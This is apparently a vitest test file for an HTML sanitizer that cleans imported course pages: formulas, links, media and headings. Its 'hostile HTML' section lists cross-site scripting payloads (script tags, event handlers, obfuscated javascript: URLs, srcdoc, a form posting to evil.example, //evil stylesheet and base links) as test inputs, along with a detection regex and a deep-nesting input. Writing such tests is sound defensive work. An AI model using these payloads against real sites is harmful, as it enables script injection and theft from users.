import { describe, expect, test } from 'vitest'
import { cleanBody, cleanLine, cleanPage, type PageSurroundings } from './clean-html.ts'

const page: PageSurroundings = {
  resolve: (url) => {
    if (url.startsWith('/static/')) return { kind: 'file', path: url.slice(1) }
    return url === '/page/two' ? { kind: 'node', sourceId: 'page two' } : null
  },
  keepPicture: (mediaType, bytes) => `generated/${mediaType.slice(6)}-${bytes.length}`,
}

const body = (html: string) => cleanBody(html, page).html

describe('what is kept', () => {
  test('headings, lists, tables, code, formulas and pictures', () => {
    const html =
      '<h2>Title</h2>\n<ul><li>one</li><li>two <strong>x</strong></li></ul>\n<table><tbody><tr><th colspan="2">a</th></tr></tbody></table>\n<pre><code>a\n  b</code></pre>\n<p>\\(x &lt; y\\)</p>\n<figure><img alt="A" src="stoa-file:static/a.png" /><figcaption>cap</figcaption></figure>'
    expect(body(html.replace('stoa-file:static/a.png', '/static/a.png'))).toBe(html)
  })

  test('MathML that carries no TeX stays, in its line and without what could do harm', () => {
    const fraction = '<math><mfrac><mi>a</mi><mrow><mspace width="1em"/><mi>b</mi></mrow></mfrac></math>'
    expect(body(`Let ${fraction} be`)).toBe(
      '<p>Let <math><mfrac><mi>a</mi><mrow><mspace width="1em"></mspace><mi>b</mi></mrow></mfrac></math> be</p>',
    )
    expect(
      body(
        '<math display="block" onclick="x()"><mtext><style>x</style>y</mtext><maction><mi>z</mi></maction></math>',
      ),
    ).toBe('<p><math display="block"><mtext>y</mtext><mi>z</mi></math></p>')
  })

  test('headings begin under the title of the page and skip no level', () => {
    expect(body('<h3>a</h3><h5>b</h5><h3>c</h3><div><h1>d</h1></div>')).toBe(
      '<h2>a</h2>\n<h3>b</h3>\n<h2>c</h2>\n<h2>d</h2>',
    )
  })

  test('loose text and boxes become paragraphs', () => {
    expect(body('<div>one<div>two <span style="x">three</span></div>four</div>')).toBe(
      '<p>one</p>\n<p>two three</p>\n<p>four</p>',
    )
    expect(cleanLine('<p>alone</p>', page).html).toBe('alone')
  })

  test('formulas in all their spellings become TeX in marks', () => {
    expect(body('[mathjaxinline]a&lt;b[/mathjaxinline] [mathjax]c[/mathjax]')).toBe(
      '<p>\\(a&lt;b\\) \\[c\\]</p>',
    )
    expect(body('<script type="math/tex; mode=display">x^2</script>')).toBe('<p>\\[x^2\\]</p>')
    expect(
      body(
        '<math><semantics><mi>x</mi><annotation encoding="application/x-tex">x_1</annotation></semantics></math>',
      ),
    ).toBe('<p>\\(x_1\\)</p>')
    expect(
      body('<img class="equation_image" data-equation-content="\\frac12" src="/equation_images/x">'),
    ).toBe('<p>\\(\\frac12\\)</p>')
  })

  test('links to files and places of the course, written in our way', () => {
    expect(body('<a href="/static/a b.pdf">f</a> <a href="/page/two">n</a>')).toBe(
      '<p><a href="stoa-file:static/a%20b.pdf">f</a> <a href="stoa-node:page%20two">n</a></p>',
    )
  })
})

describe('videos, sounds and frames', () => {
  test('stand between the text as blocks of their own', () => {
    const { blocks, removed } = cleanPage(
      `<p>before</p><div><p>in <iframe src="//www.youtube.com/embed/abcdefghijk?rel=0" title="Film"></iframe> after</p></div>
       <iframe src="https://player.vimeo.com/video/1"></iframe>
       <video src="/static/v.mp4"><track src="/static/v.vtt" srclang="de"></video><audio><source src="/static/s.mp3"></audio>
       <iframe src="https://example.org/tool" title="Tool"></iframe><iframe src="/static/calc.html"></iframe>`,
      page,
    )
    expect(blocks).toMatchObject([
      { type: 'text', html: '<p>before</p>\n<p>in </p>' },
      { type: 'video', title: 'Film', source: { kind: 'youtube', youtubeId: 'abcdefghijk' } },
      { type: 'text', html: '<p> after</p>' },
      { type: 'embed', url: 'https://player.vimeo.com/video/1' },
      {
        type: 'video',
        source: { kind: 'file', file: 'static/v.mp4' },
        captions: [{ language: 'de', file: 'static/v.vtt' }],
      },
      { type: 'audio', file: 'static/s.mp3' },
      { type: 'text', html: '<p><a href="https://example.org/tool">Tool</a></p>' },
      { type: 'document', file: 'static/calc.html' },
    ])
    expect(removed).toEqual(['frame'])
  })

  test('in a table or a line they become links', () => {
    expect(
      body(
        '<table><tr><td><iframe src="https://youtu.be/abcdefghijk" title="Film"></iframe></td></tr></table>',
      ),
    ).toBe(
      '<table><tr><td><p><a href="https://www.youtube.com/watch?v=abcdefghijk">Film</a></p></td></tr></table>',
    )
  })

  test('a picture written into the page becomes a file', () => {
    expect(body('<img alt="dot" src="data:image/png;base64,AAAA">')).toBe(
      '<p><img alt="dot" src="stoa-file:generated/png-3" /></p>',
    )
    expect(body('<p>x<img alt="svg" src="data:image/svg+xml;base64,AAAA"></p>')).toBe('<p>x<em>svg</em></p>')
  })
})

describe('hostile HTML', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//x.example></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
    '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object><embed src="javascript:x">',
    '<form action="https://evil.example"><input name=p><button formaction=javascript:x>go</button></form>',
    '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style>@import "//evil"</style><link rel=stylesheet href=//evil><base href=//evil><meta http-equiv=refresh content=0>',
    '<p style="background:url(javascript:x)" onclick="x()">text</p>',
    '<template><img src=x onerror=alert(1)></template><xmp><script>alert(1)</script></xmp>',
    '<constructor>a</constructor><__proto__>b</__proto__><tostring onclick=x()>c</tostring>',
    '<a href="https://ok.example" target=_blank ping=//evil style=x>y</a>',
  ])('%s does no harm', (html) => {
    const { blocks } = cleanPage(html, page)
    const all = JSON.stringify(blocks)
    expect(all).not.toMatch(
      /<script|javascript:|vbscript:|onerror|onload|onclick|style=|srcdoc|<form|<base|<meta|<link|<svg|data:|ping=/i,
    )
  })

  test('depth that would keep the parser busy for hours is not parsed, and its words stay', () => {
    const cleaned = cleanBody(`${'<b>'.repeat(2_000_000)}words &amp; more`, page)
    expect(cleaned.html).toContain('words &amp; more')
    expect(cleaned.removed).toContain('deep nesting')
  })

  test('tags within tags without end are flattened, and their text stays', () => {
    const deep = `${'<div><b>'.repeat(20_000)}deep${'</b></div>'.repeat(20_000)}`
    const { html, removed } = cleanBody(deep, page)
    expect(html.replace(/<[^>]+>/g, '')).toBe('deep')
    expect(html.length).toBeLessThan(2000)
    expect(removed).toContain('deep nesting')
  })
})
